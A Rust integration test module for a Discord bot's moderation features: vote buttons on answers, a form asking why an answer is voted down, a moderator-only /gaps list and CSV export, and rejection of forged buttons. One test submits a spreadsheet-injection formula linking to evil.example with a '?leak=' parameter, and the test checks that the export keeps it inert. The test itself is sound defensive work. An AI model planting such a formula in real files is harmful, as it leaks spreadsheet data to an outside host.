//! The steps of the moderators' loop, in the order the test runs them against one bot.

use super::*;

/// An answer has 👍, 👎 and a follow-up, a refusal no vote; returns the 👎 button's id.
pub(super) async fn offers_votes_on_answers_only(bot: &Bot) -> String {
    let answered = bot
        .ask("When did Russia lift its arms embargo on Pakistan?")
        .await;
    let ids = buttons(&answered);
    assert_eq!(
        ids.len(),
        3,
        "👍, 👎 and a follow-up under an answer: {answered}"
    );
    let down = ids
        .iter()
        .find(|id| id.starts_with("f:0:"))
        .unwrap()
        .clone();
    let refused = bot
        .ask("What did the Iranian ambassador say about the pipeline?")
        .await;
    assert!(
        !buttons(&refused).iter().any(|id| id.starts_with("f:")),
        "no votes on a refusal (a follow-up may rephrase it): {refused}"
    );
    down
}

/// 👎 opens a form asking why, sent back empty or with a reason, both acknowledged ephemerally.
pub(super) async fn asks_why_an_answer_is_voted_down(bot: &Bot, down: &str) {
    // 👎 is stored, then the form asks why (a modal, type 9).
    let form = bot
        .send(&fake_discord::component(&fake_discord::token(), down))
        .await;
    assert_eq!(form["type"], 9, "{form}");
    let form_id = form["data"]["custom_id"].as_str().unwrap().to_string();
    // The form sent empty is a 👎 without a reason: acknowledged, never a second form (Discord
    // allows no form in answer to a form).
    let empty = bot
        .send(&fake_discord::form_submit(
            &fake_discord::token(),
            &form_id,
            "  ",
        ))
        .await;
    assert_eq!(empty["type"], 4, "{empty}");
    assert_eq!(empty["data"]["flags"], 64, "{empty}");
    let thanks = bot
        .send(&fake_discord::form_submit(
            &fake_discord::token(),
            &form_id,
            // A spreadsheet formula as the reason: the CSV export must not keep it live.
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"wrong date\")",
        ))
        .await;
    assert_eq!(
        thanks["data"]["flags"], 64,
        "acknowledged ephemerally: {thanks}"
    );
    assert!(
        thanks["data"]["content"]
            .as_str()
            .unwrap()
            .contains("wrong date"),
        "{thanks}"
    );
}

/// `/gaps` shows a moderator both questions and the reason; returns its "Export CSV" button's id.
pub(super) async fn lists_the_gaps_to_a_moderator(fake: &FakeDiscord, bot: &Bot) -> String {
    // The log is written in the background; /gaps as a moderator shows both questions.
    let mut listed = String::new();
    let mut export = None;
    for _ in 0..100 {
        let token = fake_discord::token();
        let deferred = bot
            .send(&fake_discord::command(
                &token,
                "gaps",
                &[],
                MANAGE_GUILD,
                &[],
            ))
            .await;
        assert_eq!(
            (&deferred["type"], &deferred["data"]["flags"]),
            (&serde_json::json!(5), &serde_json::json!(64)),
            "moderators see gaps alone, after a deferral: {deferred}"
        );
        let gaps = serde_json::json!({"data": fake.edited(&token).await.body});
        listed = gaps["data"]["embeds"][0].to_string();
        export = buttons(&gaps).into_iter().find(|id| id.starts_with("c:"));

        if listed.contains("Iranian ambassador") && listed.contains("wrong date") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(listed.contains("Iranian ambassador"), "{listed}");
    assert!(listed.contains("arms embargo"), "{listed}");
    assert!(listed.contains("wrong date"), "{listed}");
    export.expect("an Export CSV button under /gaps")
}

/// "Export CSV" is refused to a member and gives a moderator a CSV file without live formulas.
pub(super) async fn exports_the_gaps_as_csv(fake: &FakeDiscord, bot: &Bot, export: &str) {
    // "Export CSV" attaches every gap to the edit of a deferral; moderators only.
    let refused = bot
        .send(&fake_discord::component(&fake_discord::token(), export))
        .await;
    assert!(refused.to_string().contains("Only moderators"), "{refused}");
    let token = fake_discord::token();
    let deferred = bot
        .send(&fake_discord::component_by(&token, export, MANAGE_GUILD))
        .await;
    assert_eq!(deferred["type"], 5, "{deferred}");
    let edited = fake.edited(&token).await;
    let [(name, csv)] = edited.files.as_slice() else {
        panic!("one file: {edited:?}");
    };
    assert_eq!(name, "dossier-gaps-7d.csv");
    let csv = String::from_utf8(csv.clone()).unwrap();
    assert!(
        csv.starts_with("question,count,unanswered,unsure,down_votes,reasons,last_asked\n"),
        "{csv}"
    );
    assert!(
        csv.contains("Iranian ambassador") && csv.contains("wrong date"),
        "{csv}"
    );
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c.starts_with("'=HYPERLINK(")),
        "the formula is kept as text: {csv}"
    );
    assert!(
        !cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])),
        "no live formula: {csv}"
    );
    assert_eq!(
        edited.body["attachments"][0]["filename"], "dossier-gaps-7d.csv",
        "{}",
        edited.body
    );
}

/// `/gaps` is refused to a member, and a forged vote button is refused before anything is stored.
pub(super) async fn refuses_gaps_to_members_and_forged_votes(bot: &Bot) {
    let refused = bot
        .send(&fake_discord::command(
            &fake_discord::token(),
            "gaps",
            &[],
            "0",
            &[],
        ))
        .await;
    assert!(
        refused["data"]["content"]
            .as_str()
            .unwrap()
            .contains("Only moderators"),
        "{refused}"
    );
    // A forged vote button is refused before anything is stored.
    let forged = bot
        .send(&fake_discord::component(
            &fake_discord::token(),
            "f:7:99999999999999999999999",
        ))
        .await;
    assert!(
        forged["data"]["content"]
            .as_str()
            .unwrap()
            .contains("no longer valid")
    );
}
